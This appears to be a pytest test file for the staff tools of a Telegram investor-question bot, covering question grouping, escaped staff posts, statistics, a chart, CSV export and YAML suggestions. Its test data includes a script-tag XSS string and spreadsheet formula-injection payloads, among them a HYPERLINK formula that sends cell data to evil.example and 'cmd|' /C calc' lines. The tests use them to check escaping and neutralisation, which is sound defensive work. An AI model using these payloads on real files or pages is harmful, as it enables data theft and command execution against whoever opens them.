"""The Telegram-free staff core: grouping, nearest entries, staff posts, stats and chart, CSV, YAML suggestions."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import struct
import zlib
from pathlib import Path
from typing import Any

import pytest
import telegram
import yaml

from bot import staff
from bot.knowledge.load import load_knowledge_base
from bot.knowledge.model import KnowledgeBase
from bot.matching.matcher import Matcher
from bot.store import DayCount, Status, Store, UnansweredItem, UserProfile
from tests.botapi_server import FakeBotAPI
from tests.conftest import TODAY

NOW = dt.datetime(2026, 11, 25, 12, 0, tzinfo=dt.UTC)


@pytest.fixture
def matcher(mini_kb: KnowledgeBase) -> Matcher:
    return Matcher.from_knowledge_base(mini_kb)


@pytest.fixture
async def store(tmp_path: Path) -> Any:
    opened = await Store.open(tmp_path / "log.sqlite3")
    yield opened
    await opened.close()


def item(item_id: int, text: str, created_at: str, lang: str = "en", user_id: int | None = 7) -> UnansweredItem:
    return UnansweredItem(
        id=item_id,
        question_id=None,
        created_at=created_at,
        user_id=user_id,
        chat_id=user_id,
        lang=lang,
        text=text,
        status="new",
        reply=None,
        replied_by=None,
        replied_at=None,
    )


# --- grouping


def test_similar_questions_are_grouped_and_the_biggest_group_comes_first(matcher: Matcher) -> None:
    items = [
        item(1, "What are office rents in E-Town?", "2026-11-20T10:00:00+00:00"),
        item(2, "what are the office rents in etown", "2026-11-21T10:00:00+00:00"),
        item(3, "What are land prices in E-Town?", "2026-11-24T10:00:00+00:00"),
        item(4, "What are office rents in E-Town?", "2026-11-22T10:00:00+00:00"),
        item(5, "亦庄办公室租金多少", "2026-11-23T10:00:00+00:00", lang="zh"),
        item(6, "亦庄辦公室租金多少？", "2026-11-23T11:00:00+00:00", lang="zh"),  # Traditional, same question
        item(7, "Is there a shuttle bus to the airport?", "2026-11-25T09:00:00+00:00"),
    ]
    groups = staff.group_items(items, matcher.normalizer)
    as_sets = [set(g.item_ids) for g in groups]
    assert as_sets == [{1, 2, 4}, {7}, {5, 6}, {3}] or as_sets == [{1, 2, 4}, {5, 6}, {7}, {3}]
    rents = groups[0]
    assert rents.count == 3
    assert rents.item_ids == (4, 2, 1)  # newest first
    assert rents.newest == "2026-11-22T10:00:00+00:00" and rents.newest_day == "2026-11-22"
    assert rents.representative == "What are office rents in E-Town?"  # the most frequent wording
    assert rents.texts == ("What are office rents in E-Town?", "what are the office rents in etown")
    zh = next(g for g in groups if 5 in g.item_ids)
    assert zh.langs == ("zh",) and zh.representative == "亦庄辦公室租金多少？"
    # Among groups of one, the most recent comes first.
    singles = [g for g in groups if g.count == 1]
    assert [g.item_ids for g in singles] == [(7,), (3,)]


def test_grouping_threshold_and_empty_input(matcher: Matcher) -> None:
    items = [item(1, "office rents in etown", "2026-11-01"), item(2, "office rent etown?", "2026-11-02")]
    assert len(staff.group_items(items, matcher.normalizer)) == 1
    assert len(staff.group_items(items, matcher.normalizer, similarity=100)) == 2
    assert staff.group_items([], matcher.normalizer) == []
    # Emoji-only or punctuation-only questions still form groups instead of vanishing.
    odd = staff.group_items([item(1, "🙂", "2026-11-01"), item(2, "?!", "2026-11-02")])
    assert sorted(i for g in odd for i in g.item_ids) == [1, 2]


def test_pagination_clamps_and_counts() -> None:
    groups = [
        staff.Group(f"q{n}", tuple(range(n * 10, n * 10 + n + 1)), (f"q{n}",), ("en",), "2026-11-01") for n in range(23)
    ]
    first = staff.paginate(groups, 1, per_page=10)
    assert (first.number, first.pages, first.total_groups) == (1, 3, 23)
    assert first.total_items == sum(n + 1 for n in range(23))
    assert [g.representative for g in first.groups] == [f"q{n}" for n in range(10)]
    last = staff.paginate(groups, 3, per_page=10)
    assert [g.representative for g in last.groups] == ["q20", "q21", "q22"]
    assert staff.paginate(groups, 99, per_page=10).number == 3
    assert staff.paginate(groups, -5, per_page=10).number == 1
    empty = staff.paginate([], 2)
    assert (empty.number, empty.pages, empty.groups, empty.total_items) == (1, 1, (), 0)
    with pytest.raises(ValueError):
        staff.paginate(groups, 1, per_page=0)


async def test_open_groups_reads_only_open_items(store: Store, matcher: Matcher) -> None:
    a = await store.add_unanswered(question_id=None, user_id=1, chat_id=1, lang="en", text="office rents?")
    b = await store.add_unanswered(question_id=None, user_id=2, chat_id=2, lang="en", text="Office rents")
    c = await store.add_unanswered(question_id=None, user_id=3, chat_id=3, lang="en", text="office rents!")
    await store.dismiss_unanswered(c, by=1)
    groups = await staff.open_groups(store, matcher.normalizer)
    assert [sorted(g.item_ids) for g in groups] == [[a, b]]


# --- nearest entries and staff posts


def test_nearest_entries_are_the_top_three_best_first(mini_kb: KnowledgeBase, matcher: Matcher) -> None:
    nearest = staff.nearest_entries("how many biotech companies are in yizhuang", mini_kb, matcher)
    assert 1 <= len(nearest) <= 3
    assert nearest[0].entry_id == "companies"
    assert nearest[0].headline == "How many biotech companies are in E-Town?"
    assert [n.score for n in nearest] == sorted((n.score for n in nearest), reverse=True)
    zh = staff.nearest_entries("亦庄有多少生物企业", mini_kb, matcher)
    assert zh[0].entry_id == "companies" and zh[0].headline == "亦庄有多少家生物医药企业？"
    assert staff.nearest_entries("", mini_kb, matcher) == ()


HOSTILE = '<script>alert("x")</script> & <b>bold</b> &amp; 1 < 2 > 0'


async def send_html(api: FakeBotAPI, chat_id: int, text: str) -> dict[str, Any]:
    """Send through the stand-in server, which parses HTML as strictly as Telegram."""
    async with telegram.Bot(api.token, base_url=api.base_url) as bot:
        await bot.send_message(chat_id, text, parse_mode="HTML")
    sent = api.last_message(chat_id)
    assert sent is not None
    return sent


async def test_staff_post_escapes_everything_and_names_the_asker(mini_kb: KnowledgeBase, matcher: Matcher) -> None:
    question = item(12, HOSTILE, "2026-11-25T10:03:09+00:00", user_id=4242)
    profile = UserProfile(4242, "en", "Li <Wei> & co", "li_invest", "2026-11-25T10:00:00+00:00")
    nearest = staff.nearest_entries("how many biotech companies", mini_kb, matcher)
    post = staff.build_staff_post(question, profile, nearest)
    assert post.item_id == 12 and post.reason == "unanswered" and post.question == HOSTILE
    assert (post.user_id, post.first_name, post.username) == (4242, "Li <Wei> & co", "li_invest")
    assert post.best is not None and post.best.entry_id == "companies"
    assert "<script>" not in post.html and "&lt;script&gt;" in post.html
    assert "Li &lt;Wei&gt; &amp; co (@li_invest), id 4242" in post.html
    assert "2026-11-25 10:03 UTC" in post.html and "Language: en" in post.html
    assert f"<code>companies</code> {nearest[0].score:.2f}" in post.html

    with FakeBotAPI() as api:
        sent = await send_html(api, -100500, post.html)
    text = sent["text"]
    assert HOSTILE in text  # what staff read is exactly what the investor typed
    assert "Li <Wei> & co (@li_invest), id 4242" in text
    assert "1. companies" in text
    assert {"type": "blockquote"}.items() <= next(e for e in sent["entities"] if e["type"] == "blockquote").items()


async def test_staff_post_for_forgotten_or_unknown_users_and_long_questions(
    mini_kb: KnowledgeBase, matcher: Matcher
) -> None:
    anonymous = staff.build_staff_post(item(3, "rents?", "2026-11-25T10:00:00+00:00", user_id=None), None, ())
    assert "identity removed" in anonymous.html and "Nearest entries: none" in anonymous.html
    no_profile = staff.build_staff_post(item(4, "rents?", "2026-11-25T10:00:00+00:00", user_id=99), None, ())
    assert "From: id 99" in no_profile.html
    username_only = UserProfile(99, None, None, "someone", "x")
    assert "From: @someone, id 99" in staff.build_staff_post(item(4, "q", "x", user_id=99), username_only, ()).html
    # A profile of somebody else is never shown.
    assert "someone" not in staff.build_staff_post(item(4, "q", "x", user_id=7), username_only, ()).html
    rejected = staff.build_staff_post(item(5, "q", "x"), None, (), reason="none_of_these")
    assert "None of these" in rejected.html

    huge = "租金<" * 1400  # 4200 characters, each '<' escaped to 4
    long_post = staff.build_staff_post(
        item(6, huge, "2026-11-25T10:00:00+00:00"), None, staff.nearest_entries("biotech", mini_kb, matcher)
    )
    assert long_post.question == huge
    with FakeBotAPI() as api:
        sent = await send_html(api, -100500, long_post.html)
    assert len(sent["text"]) <= 4096 and "…" in sent["text"]


@pytest.mark.parametrize(
    "question",
    ["😀" * 2048, "👩‍💻" * 1000, "租金<&>" * 1000, "x" * 4000, "<" * 4000, "line\n" * 1000],
    ids=["2048-emoji", "zwj-emoji", "cjk-escaped", "ascii", "all-escaped", "many-lines"],
)
async def test_a_staff_post_fits_telegram_with_room_for_the_closing_note(
    question: str, mini_kb: KnowledgeBase, matcher: Matcher
) -> None:
    # The longest name Telegram allows (64 characters, here astral), and the nearest entries shown.
    profile = UserProfile(7, "en", "𝓛" * 64, "u" * 32, "2026-11-25T10:00:00+00:00")
    nearest = tuple(
        staff.Nearest(f"entry-{n}-" + "x" * 50, 0.5, "😀" * 200) for n in range(staff.NEAREST)
    ) + staff.nearest_entries("biotech", mini_kb, matcher)
    post = staff.build_staff_post(item(6, question, "2026-11-25T10:00:00+00:00"), profile, nearest)
    assert post.question == question  # the full text is kept; only the post shows less
    with FakeBotAPI() as api:
        shown = (await send_html(api, -100500, post.html))["text"]
    assert staff.utf16_len(shown) <= staff.MAX_MESSAGE_UNITS - staff.CLOSING_NOTE_UNITS
    head = shown.split("\n", 1)[1]
    left = int(head.split("… (", 1)[1].split(" more characters)", 1)[0])
    kept = head.split("… (", 1)[0]
    assert question.startswith(kept) and len(kept) + left == len(question)
    assert shown.endswith("Admins: reply to this message to answer the investor.")


def test_a_short_question_is_shown_whole() -> None:
    post = staff.build_staff_post(item(1, "😀" * 100, "2026-11-25T10:00:00+00:00"), None, ())
    assert "😀" * 100 + "</blockquote>" in post.html and "more characters" not in post.html
    assert staff.shorten_utf16("😀😀😀", 6) == "😀😀😀"
    assert staff.shorten_utf16("😀" * 50, 40) == "😀" * 9 + "… (41 more characters)"  # 18 + 22 units


async def test_an_emoji_reply_is_measured_as_telegram_counts_it() -> None:
    with pytest.raises(ValueError, match="too long"):
        staff.investor_reply_html("q", "😀" * (staff.MAX_REPLY_UNITS // 2 + 1), "en")
    longest = staff.investor_reply_html("😀" * 5000, "😀" * (staff.MAX_REPLY_UNITS // 2), "zh")
    with FakeBotAPI() as api:
        shown = (await send_html(api, 77, longest))["text"]
    assert staff.utf16_len(shown) <= staff.MAX_MESSAGE_UNITS and "😀…" in shown


async def test_staff_post_for_item_reads_the_profile(store: Store, mini_kb: KnowledgeBase, matcher: Matcher) -> None:
    item_id = await store.add_unanswered(question_id=None, user_id=5, chat_id=5, lang="zh", text="亦庄生物企业有多少")
    await store.remember_user(5, "王", None)
    post = await staff.staff_post_for_item(store, item_id, mini_kb, matcher)
    assert post is not None and post.who == "王, id 5" and post.lang == "zh"
    assert post.nearest and post.nearest[0].entry_id == "companies"
    assert post.nearest[0].headline == "亦庄有多少家生物医药企业？"  # headlines in the question's language
    assert await staff.staff_post_for_item(store, 999, mini_kb, matcher) is None


async def test_investor_reply_quotes_the_question_escaped() -> None:
    message = staff.investor_reply_html(HOSTILE, "Rents are <about> 3 yuan & up", "en")
    assert "&lt;script&gt;" in message and "Rents are &lt;about&gt; 3 yuan &amp; up" in message
    assert staff.investor_reply_html("问题", "回复", "zh").startswith("<b>北京经开区团队的回复</b>")
    long_question = "x" * 5000
    assert len(staff.investor_reply_html(long_question, "ok", "en")) < 1000
    with pytest.raises(ValueError, match="empty"):
        staff.investor_reply_html("q", "   ", "en")
    with pytest.raises(ValueError, match="at most"):
        staff.investor_reply_html("q", "y" * (staff.MAX_REPLY_UNITS + 1), "en")
    with FakeBotAPI() as api:
        sent = await send_html(api, 77, staff.investor_reply_html(HOSTILE, "a" * staff.MAX_REPLY_UNITS, "en"))
    assert HOSTILE in sent["text"]


# --- statistics and chart


async def log(store: Store, asked_at: str, status: Status, entry_id: str | None = None) -> int:
    return await store.log_question(
        user_id=1, chat_id=1, lang="en", text="q", status=status, entry_id=entry_id, score=0.5, asked_at=asked_at
    )


async def test_stats_summary_text_and_json(store: Store, matcher: Matcher) -> None:
    await log(store, "2026-11-25T11:00:00+00:00", "answered", "companies")
    await log(store, "2026-11-25T08:00:00+00:00", "unanswered")
    await log(store, "2026-11-21T08:00:00+00:00", "answered", "companies")
    await log(store, "2026-11-21T09:00:00+00:00", "answered", "policy-list")
    await log(store, "2026-11-10T09:00:00+00:00", "suggested")
    await log(store, "2026-09-01T09:00:00+00:00", "answered", "old")  # outside every window
    await store.record_feedback(user_id=1, question_id=None, entry_id="companies", helpful=True)
    await store.record_feedback(user_id=2, question_id=None, entry_id="companies", helpful=True)
    await store.record_feedback(user_id=3, question_id=None, entry_id="policy-list", helpful=False)
    for text in ("office rents?", "Office rents", "land price?"):
        await store.add_unanswered(question_id=None, user_id=1, chat_id=1, lang="en", text=text)

    summary = await staff.collect_stats(store, now=NOW, normalizer=matcher.normalizer)
    day, week, month = summary.windows
    assert (day.counts.total, day.counts.answered, day.counts.unanswered) == (2, 1, 1)
    assert (week.counts.total, month.counts.total, month.counts.suggested) == (4, 5, 1)
    assert week.rate("answered") == 0.75 and month.rate("suggested") == 0.2
    assert summary.top_entries == (("companies", 2), ("policy-list", 1))
    assert (summary.helpful, summary.not_helpful) == (2, 1)
    assert summary.helpful_ratio == pytest.approx(2 / 3)
    assert summary.open_items == 3
    assert summary.top_groups[0].count == 2
    assert len(summary.daily) == 30 and summary.daily[-1].day == "2026-11-25"
    assert (summary.daily[-1].answered, summary.daily[-1].not_answered) == (1, 1)

    text = staff.format_stats(summary)
    assert "24 h" in text and "7 d" in text and "30 d" in text
    assert "75%" in text and "Helpful (30 d): 67% of 3 rating(s)" in text
    assert "companies" in text and "Open questions: 3" in text and "office rents" in text.lower()

    data = json.loads(json.dumps(staff.stats_dict(summary)))
    assert set(data) == {
        "generated_at",
        "windows",
        "top_entries",
        "feedback",
        "open_items",
        "top_groups",
        "daily",
        "undelivered",
        "quarantined",
    }
    assert data["windows"]["7d"]["total"] == 4 and data["windows"]["7d"]["answered_rate"] == 0.75
    assert data["windows"]["24h"]["unanswered"] == 1
    assert data["top_entries"][0] == {"entry_id": "companies", "count": 2}
    assert data["feedback"]["helpful_ratio"] == pytest.approx(0.6667)
    assert data["daily"][-1] == {"day": "2026-11-25", "answered": 1, "not_answered": 1}


async def test_stats_of_an_empty_log(store: Store) -> None:
    summary = await staff.collect_stats(store, now=NOW)
    assert summary.helpful_ratio is None and summary.open_items == 0
    assert all(w.counts.total == 0 and w.rate("answered") == 0 for w in summary.windows)
    text = staff.format_stats(summary)
    assert "no ratings" in text
    assert staff.stats_dict(summary)["feedback"]["helpful_ratio"] is None


def read_png(data: bytes) -> tuple[int, int, list[bytes]]:
    """Check a PNG's structure and every chunk's CRC; return width, height and the chunk types."""
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    position, kinds, idat = 8, [], b""
    width = height = 0
    while position < len(data):
        (length,) = struct.unpack(">I", data[position : position + 4])
        kind = data[position + 4 : position + 8]
        body = data[position + 8 : position + 8 + length]
        (crc,) = struct.unpack(">I", data[position + 8 + length : position + 12 + length])
        assert zlib.crc32(kind + body) == crc, kind
        if kind == b"IHDR":
            width, height = struct.unpack(">II", body[:8])
        if kind == b"IDAT":
            idat += body
        kinds.append(kind)
        position += 12 + length
    assert kinds[0] == b"IHDR" and kinds[-1] == b"IEND" and b"IDAT" in kinds
    assert zlib.decompress(idat)  # the image data inflates
    return width, height, kinds


def test_chart_is_a_valid_png_showing_both_series() -> None:
    from PIL import Image

    days = [DayCount((dt.date(2026, 10, 27) + dt.timedelta(days=n)).isoformat(), n % 5, 0, n % 3) for n in range(30)]
    png = staff.render_chart(days)
    width, height, _ = read_png(png)
    assert (width, height) == (800, 360)

    def pixels(data: bytes) -> dict[Any, int]:
        image = Image.open(io.BytesIO(data)).convert("RGB")
        return {colour: count for count, colour in image.getcolors(1 << 20) or []}

    green, red = (0x2E, 0x7D, 0x32), (0xC6, 0x28, 0x28)
    with_data = pixels(png)
    empty = pixels(staff.render_chart([DayCount("2026-11-25")]))
    # Only the legend's swatches are coloured when there are no questions; bars add many more pixels.
    assert with_data.get(green, 0) > 10 * max(empty.get(green, 0), 1)
    assert with_data.get(red, 0) > 10 * max(empty.get(red, 0), 1)
    assert read_png(staff.render_chart([]))[0] == 800


# --- CSV export

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n=2+2",
]


def test_neutralize() -> None:
    for text in FORMULAS:
        assert staff.neutralize(text) == "'" + text
    for text in ("hello", "亦庄", "", " =1", "'already", "1+1", "a=b"):
        assert staff.neutralize(text) == text


async def test_csv_export_neutralises_formulas_and_parses_back(store: Store) -> None:
    texts = [*FORMULAS, 'comma, "quotes" and\nnewline', "亦庄有多少家企业？", "plain"]
    for n, text in enumerate(texts):
        await store.log_question(
            user_id=-(n + 1),  # negative ids must stay numbers, not be mangled
            chat_id=-1001234567890,
            lang="en",
            text=text,
            status="unanswered",
            entry_id="=evil" if n == 0 else None,
            score=0.25,
            asked_at=f"2026-11-{n + 1:02d}T10:00:00+00:00",
        )
    out = io.StringIO(newline="")
    assert await staff.export_csv(store, out) == len(texts)
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows[0] == list(staff.EXPORT_COLUMNS)
    body = rows[1:]
    assert [row[-1] for row in body] == [staff.neutralize(t) for t in texts]
    assert body[0][6] == "'=evil" and body[1][6] == ""
    for row in body:
        for column, cell in zip(staff.EXPORT_COLUMNS, row, strict=True):
            if column in {"id", "user_id", "chat_id", "score"}:
                float(cell)  # numbers stay numbers
            else:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    assert body[2][2] == "-3" and body[0][3] == "-1001234567890" and body[0][7] == "0.25"

    window = io.StringIO()
    assert await staff.export_csv(store, window, dt.date(2026, 11, 2), dt.date(2026, 11, 3)) == 2
    assert [r[1][:10] for r in list(csv.reader(io.StringIO(window.getvalue())))[1:]] == ["2026-11-02", "2026-11-03"]
    data = await staff.export_csv_bytes(store, dt.date(2026, 11, 9))
    assert data.startswith(b"\xef\xbb\xbf")
    parsed = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert [r[-1] for r in parsed[1:]] == ["亦庄有多少家企业？", "plain"]


def test_dates_for_the_export() -> None:
    assert staff.parse_day(" 2026-11-05 ") == dt.date(2026, 11, 5)
    with pytest.raises(ValueError, match="YYYY-MM-DD"):
        staff.parse_day("05/11/2026")
    for odd in ("2026-13-45", "20261105", "2026-W45-1", "２０２６-11-05", "2026-11-05T00:00"):
        with pytest.raises(ValueError, match="not a date"):
            staff.parse_day(odd)
    for far in ("0001-01-01", "1999-12-31", "2101-01-01", "9999-12-31"):  # 9999-12-31 + 1 day overflows
        with pytest.raises(ValueError, match="outside 2000-01-01 to 2100-12-31"):
            staff.parse_day(far)
    assert staff.day_bounds(staff.FIRST_DAY, staff.LAST_DAY) == ("2000-01-01", "2101-01-01")
    assert staff.day_bounds(dt.date(2026, 11, 1), dt.date(2026, 11, 30)) == ("2026-11-01", "2026-12-01")
    assert staff.day_bounds(None, None) == (None, None)
    with pytest.raises(ValueError, match="after"):
        staff.day_bounds(dt.date(2026, 11, 2), dt.date(2026, 11, 1))


# --- YAML suggestions


def suggestion_groups(matcher: Matcher) -> list[staff.Group]:
    items = [
        item(1, "how many biotech firms are there in yizhuang now", "2026-11-20T10:00:00+00:00"),
        item(2, "How many biotech companies are in E-Town?", "2026-11-20T11:00:00+00:00"),  # already a phrasing
        item(3, "What are office rents in E-Town?", "2026-11-21T10:00:00+00:00"),
        item(4, "what are the office rents in etown", "2026-11-22T10:00:00+00:00"),
        item(5, "亦庄办公室租金多少: '引号' #", "2026-11-23T10:00:00+00:00", lang="zh"),
    ]
    return staff.group_items(items, matcher.normalizer)


def test_suggest_yaml_round_trips_and_separates_phrasings_from_new_entries(
    mini_kb: KnowledgeBase, matcher: Matcher
) -> None:
    text = staff.suggest_yaml(suggestion_groups(matcher), mini_kb, matcher, min_score=0.3)
    data = yaml.safe_load(text)
    assert set(data) == {"phrasings", "new_entries"}
    assert data["phrasings"] == {"companies": {"en": ["how many biotech firms are there in yizhuang now"]}}
    assert "companies (mini_kb/entries.yaml:1)" in text or "companies (entries.yaml:1)" in text
    new = {e["id"]: e for e in data["new_entries"]}
    assert "office-rents-etown" in new
    rents = new["office-rents-etown"]
    assert rents["questions"] == {"en": ["what are the office rents in etown", "What are office rents in E-Town?"]}
    assert rents["answer"] == {"en": "", "zh": ""}
    zh = next(e for e in data["new_entries"] if "zh" in e["questions"])
    assert zh["questions"]["zh"] == ["亦庄办公室租金多少: '引号' #"]
    assert zh["id"] == "new-question"  # no Latin words to name it by
    assert all(e["id"] not in mini_kb.entries for e in data["new_entries"])


def test_suggest_yaml_empty_and_all_known(mini_kb: KnowledgeBase, matcher: Matcher) -> None:
    assert yaml.safe_load(staff.suggest_yaml([], mini_kb, matcher)) == {"phrasings": {}, "new_entries": []}
    known = staff.group_items([item(1, "number of biotech firms in BDA", "2026-11-01")], matcher.normalizer)
    assert yaml.safe_load(staff.suggest_yaml(known, mini_kb, matcher)) == {"phrasings": {}, "new_entries": []}


def test_pasted_suggestions_pass_the_knowledge_base_check(
    kb_copy: Path, mini_kb: KnowledgeBase, matcher: Matcher
) -> None:
    data = yaml.safe_load(staff.suggest_yaml(suggestion_groups(matcher), mini_kb, matcher, min_score=0.3))
    entries_file = kb_copy / "entries.yaml"
    entries = yaml.safe_load(entries_file.read_text(encoding="utf-8"))

    # Pasted unedited, the skeletons are refused: their answers are empty.
    unedited = entries + data["new_entries"]
    entries_file.write_text(yaml.safe_dump(unedited, allow_unicode=True, sort_keys=False), encoding="utf-8")
    refused = load_knowledge_base(kb_copy, today=TODAY)
    assert refused.kb is None and any("answer" in issue.message for issue in refused.errors)

    for entry in entries:
        for lang, texts in data["phrasings"].get(entry["id"], {}).items():
            entry["questions"].setdefault(lang, []).extend(texts)
    for skeleton in data["new_entries"]:
        skeleton["answer"] = {"en": "Ask the park office.", "zh": "请咨询园区办公室。"}
    entries_file.write_text(
        yaml.safe_dump(entries + data["new_entries"], allow_unicode=True, sort_keys=False), encoding="utf-8"
    )
    result = load_knowledge_base(kb_copy, today=TODAY)
    assert result.kb is not None, [str(i) for i in result.errors]
    assert "how many biotech firms are there in yizhuang now" in result.kb.entries["companies"].questions["en"]
    assert "office-rents-etown" in result.kb.entries
    rematched = Matcher.from_knowledge_base(result.kb).match("What are office rents in E-Town?")
    assert rematched.entry_id == "office-rents-etown"
